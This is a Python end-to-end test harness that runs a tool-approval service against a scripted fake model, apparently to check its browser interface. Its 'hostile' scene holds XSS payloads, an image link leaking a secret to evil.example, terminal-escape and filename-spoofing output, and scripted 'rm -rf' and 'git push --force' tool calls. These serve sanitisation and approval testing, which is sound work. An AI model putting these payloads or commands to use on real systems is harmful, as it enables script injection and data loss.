"""The real service and a scripted model, for the tests in a browser and for looking at the pages.

    python e2e/service.py      prints one line of JSON: url, token, other (bob's),
                               data, shop; ends with its input
    python e2e/service.py broken    the same with plugins and a hook that do not work
    python e2e/service.py answers    the same with calls that people approved or declined before
    python e2e/service.py loopback    the same with loopback as a network of allowed hosts
    python e2e/service.py push=ORIGIN    the same with a push service that may be on loopback

Each line of input lets a message go on that has stopped in its middle (the scene `half`).
What the model does is chosen by the first word of the user's text: see `scene`.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import sqlite3
import sys
import tempfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

from app.config.push import PushSettings
from app.config.sections import HookSettings, SandboxSettings
from app.config.sources import SourceSettings
from tests.support.answered_calls import Answered, record
from tests.support.scripted_anthropic.server import Received, ScriptedAnthropic
from tests.support.scripted_anthropic.turns import Gate, Turn, Wait, text, thinking, tool_use
from tests.support.service import serving, settings_for

ROOT = Path(__file__).resolve().parent.parent.parent
ESSAY = """## A tollgate for tools

A model may *ask* for anything. Whether it **happens** is decided elsewhere:

1. the call is looked up, and judged by rules;
2. a person is asked where a rule says so;
3. only then it runs, in a sandbox.

```python
def decide(call):
    verdict = rules.judge(call)
    return verdict if verdict.final else ask_a_person(call)
```

| state | meaning |
|---|---|
| `denied` | policy said no |
| `declined` | a person said no |

> Never merge the two.

See [the protocol](https://example.org/protocol) for more.
"""
HOSTILE_TEXT = (
    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'> "
    "[click](javascript:window.hacked=1) ![leak](https://evil.example/?secret)"
)
HOSTILE_COMMAND = (
    r"printf '<script>window.hacked=1</script>\n<img src=x onerror=window.hacked=1>\n'; "
    r"printf '\033[31mred\033[0m \033]0;title\007 \033[2J\033[Hafter\n'; "
    r"printf 'abc \342\200\256gpj.exe\n'; head -c 3000000 /dev/zero | tr '\0' 'x'; echo"
)

ANSWERS = [
    *(Answered(f"rm tmp/run-{at}.log", day=1 + at % 2) for at in (11, 24, 36, 47, 58, 63)),
    *(Answered("git push --force", "declined", seconds=at) for at in (1, 8)),
    *[Answered("ls", None)] * 12,
]

GATES: asyncio.Queue[Gate] = asyncio.Queue()


def _half() -> Turn:
    gate = Gate()
    GATES.put_nowait(gate)
    return Turn(thinking("Where was I?"), text("The first half,", gate, " and the other half."))


def scene(received: Received) -> Turn:
    """The next turn of the play that the user's words name."""
    if received.tool_results():
        return _after(received)
    said = received.last_user_text().strip()
    word, _, rest = said.partition(" ")
    scenes: dict[str, Callable[[], Turn]] = {
        "half": _half,
        "essay": lambda: Turn(
            thinking("The user wants an essay. I shall write about gates."),
            text(*_slowly(ESSAY, 0.01)),
        ),
        "long": lambda: Turn(text(*_slowly((ESSAY + "\n\n") * 60, 0.001))),
        "run": lambda: Turn(text("I run it."), tool_use("bash", {"command": rest})),
        "two": lambda: Turn(
            text("Two folders have to go."),
            tool_use("bash", {"command": "rm -rf old-build"}),
            tool_use("bash", {"command": "rm -rf cache && git push --force"}),
        ),
        "many": lambda: Turn(
            text("Three folders have to go."),
            *(tool_use("bash", {"command": f"rm -rf old-{number}"}) for number in range(3)),
            tool_use("bash", {"command": "git push --force"}),
        ),
        "ask": lambda: Turn(
            tool_use(
                "ask_user",
                {"question": "Which colour shall it be?", "choices": ["Red", "Blue"]},
            )
        ),
        "call": lambda: Turn(
            tool_use(rest.partition(" ")[0], json.loads(rest.partition(" ")[2] or "{}"))
        ),
        "hostile": lambda: Turn(text(HOSTILE_TEXT), tool_use("bash", {"command": HOSTILE_COMMAND})),
    }
    if word in scenes:
        return scenes[word]()
    return Turn(text(*_slowly(f"You said: {said}", 0.02)))


def _after(received: Received) -> Turn:
    failed = any(item.get("is_error") for item in received.tool_results().values())
    return Turn(text("That did not happen." if failed else "Done. The result is above."))


def _slowly(words: str, pause: float) -> list[str | Wait]:
    pieces: list[str | Wait] = []
    for start in range(0, len(words), 24):
        pieces += [words[start : start + 24], Wait(pause)]
    return pieces


async def main() -> None:
    """Serve until the input ends."""
    base = Path(tempfile.mkdtemp(prefix="tollgate-web-"))
    folder = base / "data"
    folder.mkdir()
    shop = _shop(base / "files")
    try:
        async with ScriptedAnthropic(fallback=scene) as model:
            settings = settings_for(
                folder,
                sources=SourceSettings(sqlite_folders=[shop.parent]),
                allow_anonymous=False,
                anthropic_api_key="none",
                anthropic_base_url=model.base_url,
                push=PushSettings(trusted_origins=_push_services()),
                **(_loopback() if "loopback" in sys.argv else {}),
                **(_broken(folder / "plugins") if "broken" in sys.argv else {}),
            )
            async with serving(settings) as running:
                token, _ = await running.service.tokens.create(
                    "ann", ("chat", "tools:call", "approve", "admin", "audit:read")
                )
                other, _ = await running.service.tokens.create("bob", ("chat",))
                if "answers" in sys.argv:
                    await record(running, running.session(user_id="ann").id, ANSWERS)
                reported = {"url": running.url, "token": token, "other": other}
                places = {"data": str(folder), "shop": str(shop)}
                print(json.dumps({**reported, **places}), flush=True)
                await _obey()
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _push_services() -> list[str]:
    return [word.removeprefix("push=") for word in sys.argv if word.startswith("push=")]


def _loopback() -> dict[str, Any]:
    """Commands may reach an allowed host here, so that no scene needs a network."""
    return {"sandbox": SandboxSettings(warm_workers=0, allow_networks=["127.0.0.0/8"])}


def _broken(folder: Path) -> dict[str, Any]:
    """A plugin of tools and one of hooks that cannot be loaded, and a hook that always fails."""
    folder.mkdir()
    (folder / "unfinished.py").write_text("TOOLS = (", encoding="utf-8")
    (folder / "guard.py").write_text("HOOKS = []\n1 / 0\n", encoding="utf-8")
    watch = HookSettings(
        name="watch", event="tool_error", matcher="calculator", command="test 1 = 2"
    )
    return {"hooks": [watch], "broken_hook_plugins": "report"}


def _shop(folder: Path) -> Path:
    """A small database for the tools that ask one."""
    folder.mkdir()
    path = folder / "shop.db"
    with closing(sqlite3.connect(path)) as raw:
        raw.executescript(
            "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, email TEXT);"
            "INSERT INTO customers VALUES (1, 'Ada', 'ada@example.org');"
        )
    return path


async def _obey() -> None:
    reader = asyncio.StreamReader()
    await asyncio.get_running_loop().connect_read_pipe(
        lambda: asyncio.StreamReaderProtocol(reader), sys.stdin
    )
    while await reader.readline():
        (await GATES.get()).open()


if __name__ == "__main__":
    asyncio.run(main())
